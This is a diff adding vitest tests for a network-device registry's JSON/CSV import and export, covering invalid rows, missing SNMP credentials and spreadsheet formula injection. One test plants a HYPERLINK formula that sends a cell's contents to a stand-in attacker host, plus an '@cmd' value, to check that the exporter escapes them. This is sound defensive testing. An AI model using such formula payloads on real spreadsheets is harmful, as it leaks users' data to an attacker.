@@ -1,4 +1,5 @@
 import { describe, expect, it } from 'vitest';
+import { DeviceInputSchema } from '../../../shared/contract/devices';
 import { exportDevices, importDevices } from './import-export';
 import { testRegistry } from './test-registry';
 
@@ -60,5 +61,64 @@ describe('device import and export', () => {
     const { registry } = testRegistry();
     await expect(importDevices(registry, 'json', '{"devices": [', false, () => undefined)).rejects.toThrow(/Not valid JSON/);
     await expect(importDevices(registry, 'json', '{"x": 1}', false, () => undefined)).rejects.toThrow(/Expected a JSON array/);
+  });
+
+  it('refuses a null or non-object JSON entry by line and says exactly which rows went in', async () => {
+    const { registry } = testRegistry();
+    const json = JSON.stringify([
+      { name: 'a', kind: 'snmp', host: '10.0.0.1', snmp: { version: '2c' }, secret: { community: 'c1' } },
+      null,
+      { name: 'b', kind: 'snmp', host: '10.0.0.2', snmp: { version: '2c' }, secret: { community: 'c2' } },
+      7,
+    ]);
+    const r = await importDevices(registry, 'json', json, false, () => undefined);
+    expect(r.added).toBe(2);
+    expect(r.addedRows).toEqual([
+      { line: 1, name: 'a' },
+      { line: 3, name: 'b' },
+    ]);
+    expect(r.rejected).toEqual([
+      { line: 2, name: '', reason: 'row: expected a device object, got null' },
+      { line: 4, name: '', reason: 'row: expected a device object, got number' },
+    ]);
+    expect(r.missingCredential).toEqual([]);
+    expect(registry.list().map((d) => d.name)).toEqual(['a', 'b']);
+  });
+
+  it('names, at import, each row whose device lacks its credential (a CSV round trip)', async () => {
+    const a = testRegistry();
+    await importDevices(a.registry, 'csv', CSV, false, () => undefined);
+    const b = testRegistry();
+    for (const dryRun of [true, false]) {
+      const r = await importDevices(b.registry, 'csv', exportDevices(a.registry, 'csv').text, dryRun, () => undefined);
+      expect(r.missingCredential).toEqual([
+        { line: 2, name: 'core-sw', reason: 'Credential missing (SNMP community): edit the device and enter it' },
+        {
+          line: 3,
+          name: 'nas',
+          reason: 'Credential missing (SNMPv3 authentication key, SNMPv3 privacy key): edit the device and enter it',
+        },
+      ]);
+    }
+    expect(b.registry.list().map((d) => [d.name, d.hasSecret])).toEqual([
+      ['core-sw', false],
+      ['nas', false],
+    ]);
+  });
+
+  it('writes formula-like cells as text in a CSV export and reads them back unchanged', async () => {
+    const a = testRegistry();
+    const evil = '=HYPERLINK("http://attacker.example/?x="&A1,"Click")';
+    await a.registry.add(DeviceInputSchema.parse({ name: evil, kind: 'snmp', host: '10.0.0.7', snmp: { version: '2c' }, secret: { community: 'c' } }));
+    await a.registry.add(DeviceInputSchema.parse({ name: '@cmd', kind: 'snmp', host: '10.0.0.8', snmp: { version: '2c' }, secret: { community: 'c' } }));
+    const text = exportDevices(a.registry, 'csv').text;
+    const cells = text.split('\n')[1]!;
+    expect(cells.startsWith(`"'=HYPERLINK(`)).toBe(true);
+    expect(text).toContain("'@cmd,");
+    expect(text).not.toMatch(/(^|\n|,)"?[=+@-]/);
+    const b = testRegistry();
+    const r = await importDevices(b.registry, 'csv', text, false, () => undefined);
+    expect(r.rejected).toEqual([]);
+    expect(b.registry.list().map((d) => d.name)).toEqual([evil, '@cmd']);
   });
 });
